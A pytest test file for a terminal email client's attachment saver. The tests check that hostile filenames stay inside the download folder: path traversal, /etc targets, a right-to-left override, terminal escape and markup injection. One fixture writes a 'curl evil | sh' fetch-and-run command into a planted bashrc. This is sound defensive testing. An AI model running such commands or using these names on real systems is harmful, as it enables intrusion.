"""Attachments land only inside the chosen folder, under a safe name, never overwriting."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests import corpus_helpers as helpers
from tui.core.errors import MailError
from tui.core.mail.attachments import (
    AttachmentExists,
    AttachmentSaveError,
    default_folder,
    free_name,
    save_all,
    save_attachment,
)
from tui.core.mail.mime import Attachment, parse_message


def att(name: str, data: bytes = b"donnees") -> Attachment:
    return Attachment(1, name, "application/octet-stream", len(data), data)


def test_traversal_corpus_lands_inside_the_folder(tmp_path: Path) -> None:
    message = parse_message((helpers.CORPUS / "filename-path-traversal.eml").read_bytes())
    folder = tmp_path / "dl"
    folder.mkdir()
    paths = save_all(message.attachments, folder)
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        ["bashrc", "passwd", "win.ini", "rf", "_CON.txt"]
    )
    assert all(p.parent == folder.resolve() for p in paths)
    assert not (tmp_path / ".bashrc").exists()
    assert (folder / "bashrc").read_bytes() == b"curl evil | sh"


@pytest.mark.parametrize("name", ["../../evil", "/etc/evil", "..", ".hidden", "a/../../b"])
def test_hostile_names_stay_inside(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "dl"
    folder.mkdir()
    path = save_attachment(att(name), folder)
    assert path.parent == folder.resolve()
    assert not path.name.startswith(".")


def test_never_overwrites_without_asking(tmp_path: Path) -> None:
    save_attachment(att("rapport.pdf", b"premier"), tmp_path)
    with pytest.raises(AttachmentExists) as caught:
        save_attachment(att("rapport.pdf", b"second"), tmp_path)
    assert isinstance(caught.value, MailError)
    assert "rapport.pdf" in str(caught.value)
    assert (tmp_path / "rapport.pdf").read_bytes() == b"premier"
    save_attachment(att("rapport.pdf", b"second"), tmp_path, overwrite=True)
    assert (tmp_path / "rapport.pdf").read_bytes() == b"second"


def test_free_name_and_save_all_number_copies(tmp_path: Path) -> None:
    (tmp_path / "rapport.pdf").write_bytes(b"x")
    assert free_name(tmp_path, "rapport.pdf") == "rapport (1).pdf"
    assert free_name(tmp_path, "archive.tar.gz") == "archive.tar.gz"
    (tmp_path / "archive.tar.gz").write_bytes(b"x")
    assert free_name(tmp_path, "archive.tar.gz") == "archive (1).tar.gz"
    paths = save_all([att("rapport.pdf"), att("rapport.pdf")], tmp_path)
    assert [p.name for p in paths] == ["rapport (1).pdf", "rapport (2).pdf"]


def test_symlink_in_folder_is_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"intact")
    folder = tmp_path / "dl"
    folder.mkdir()
    (folder / "note.txt").symlink_to(outside)
    with pytest.raises(AttachmentExists):
        save_attachment(att("note.txt", b"pirate"), folder)
    assert outside.read_bytes() == b"intact"
    save_attachment(att("note.txt", b"nouveau"), folder, overwrite=True)
    assert outside.read_bytes() == b"intact"
    assert (folder / "note.txt").read_bytes() == b"nouveau"


def test_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(AttachmentSaveError):
        save_attachment(att("a.txt"), tmp_path / "absent")


def test_default_folder_follows_xdg(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DOWNLOAD_DIR", str(tmp_path / "Téléchargements"))
    assert default_folder() == tmp_path / "Téléchargements"


HOSTILE_NAMES = [
    ("[@click=app.quit]facture[/].pdf", "].pdf"),
    ("circulaires/2026/rentrée.pdf", "rentrée.pdf"),
    ("facture\u202efdp.exe", "facturefdp.exe"),
    ("\x1b]8;;file:///etc/passwd\x1b\\lien.txt", "lien.txt"),
]


def _with_attachment(name: str) -> bytes:
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"] = "a@ac-dijon.fr"
    message["Subject"] = "Pièce jointe"
    message.set_content("Voir la pièce jointe.")
    message.add_attachment(b"%PDF-1.4", maintype="application", subtype="pdf", filename=name)
    return message.as_bytes()


@pytest.mark.parametrize(("sent", "saved"), HOSTILE_NAMES)
def test_attachment_names_are_shown_as_sent_and_saved_safely(
    tmp_path: Path, sent: str, saved: str
) -> None:
    """Issue #14: « [@click=app.quit]facture[/].pdf » was listed as « ].pdf »."""
    from tui.account import reader_view
    from tui.core.mail.sanitize import clean_line

    message = parse_message(_with_attachment(sent))
    [attachment] = message.attachments
    assert attachment.label == clean_line(sent)
    assert "\x1b" not in attachment.label and "\u202e" not in attachment.label
    listed = reader_view(message).attachments
    assert any(clean_line(sent) in line for line in listed)
    folder = tmp_path / "dl"
    folder.mkdir()
    [path] = save_all(message.attachments, folder)
    assert path.parent == folder.resolve()
    assert path.name == saved


async def test_save_dialog_shows_both_names(monkeypatch: pytest.MonkeyPatch) -> None:
    from textual.app import App

    from tui.screens.save_attachments import SaveAttachments

    message = parse_message(_with_attachment("[@click=app.quit]facture[/].pdf"))
    app: App[None] = App()
    async with app.run_test(size=(100, 20)) as pilot:
        app.push_screen(SaveAttachments(message.attachments))
        await pilot.pause()
        text = "\n".join(s.text for s in app.screen._compositor.render_strips())
        assert "[@click=app.quit]facture[/].pdf" in text
        assert "« ].pdf »" in text
        await pilot.click(offset=(10, 5))
        assert app.is_running
